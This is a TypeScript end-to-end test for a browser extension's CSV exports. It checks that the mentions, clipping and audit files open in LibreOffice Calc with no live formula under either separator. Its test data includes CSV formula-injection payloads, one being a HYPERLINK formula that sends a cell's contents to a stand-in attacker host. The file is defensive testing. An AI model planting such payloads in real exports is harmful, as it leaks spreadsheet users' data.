import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AuditSection } from './pages/audit';
import { SidePanelPage } from './pages/sidepanel';
import { launchSiar, type SiarBrowser } from './support/launch';
import { openInCalc } from './support/libreoffice';
import { HOUR, mention, seed, watch } from './support/mentions';

// Issue 13.3: no CSV Siar writes may run a formula in a spreadsheet, whether it is opened with ',' or with
// ';' (the Indonesian list separator). Checked by opening the real downloads in LibreOffice Calc.
const HOSTILE = ['pemerintah;=1+1;x', '=HYPERLINK("https://evil.example/?"&A1,"klik")', 'warga,=2+2', '@SUM(1;2)', '-3+3', '+62 811'];

let siar: SiarBrowser;
beforeAll(async () => {
  siar = await launchSiar();
});
afterAll(async () => {
  await siar.close();
});

async function download(page: SidePanelPage['page'], click: () => Promise<void>): Promise<string> {
  const file = page.waitForEvent('download');
  await click();
  return readFileSync((await (await file).path())!, 'utf8');
}

describe('CSV exports in a spreadsheet', () => {
  it('mentions, clipping and audit CSVs hold no formula in LibreOffice with either separator', async () => {
    const day = Date.parse('2026-03-10T00:00:00+07:00');
    const panel = await SidePanelPage.openIn(siar, 'sidepanel.html');
    await seed(panel.page, {
      watches: [watch(1, 'Banjir', '#1f77b4')],
      mentions: HOSTILE.map((title, i) =>
        mention(i + 1, { title, outlet: HOSTILE[(i + 1) % HOSTILE.length], summary: title, publishedAt: day + (i + 8) * HOUR }),
      ),
    });
    await panel.page.reload();
    await panel.ready();
    await panel.state('all');
    const mentions = await download(panel.page, () => panel.byTestId('export-csv').click());
    await panel.page.close();

    const report = await siar.openPage('report.html?date=2026-03-10');
    await report.locator('[data-testid="clipping-report"][data-ready="true"]').waitFor();
    const clipping = await download(report, () => report.getByTestId('report-export-csv').click());
    await report.close();

    // An audit line whose post text is hostile (what the queue writes for a post an officer typed).
    await siar.worker.evaluate(
      (texts) =>
        new Promise<void>((resolve, reject) => {
          const open = indexedDB.open('siar');
          open.onsuccess = () => {
            const tx = open.result.transaction('audit', 'readwrite');
            for (const text of texts)
              tx.objectStore('audit').add({ at: Date.now(), actor: text, event: 'sent', network: 'x', text, url: 'https://x.com/humas/status/1' });
            tx.oncomplete = () => {
              open.result.close();
              resolve();
            };
            tx.onerror = () => reject(tx.error);
          };
        }),
      HOSTILE,
    );
    const options = await siar.openPage('options.html');
    const audit = AuditSection.on(options);
    await audit.ready();
    const auditCsv = (await audit.exportCsv()).text;
    await options.close();

    for (const separator of [',', ';'] as const) {
      const sheets = openInCalc({ mentions, clipping, audit: auditCsv }, separator);
      for (const [name, cells] of Object.entries(sheets)) {
        expect(cells.length, `${name} read with '${separator}'`).toBeGreaterThan(HOSTILE.length);
        expect(
          cells.filter((cell) => cell.formula),
          `${name} read with '${separator}'`,
        ).toEqual([]);
      }
    }
  }, 600_000);
});
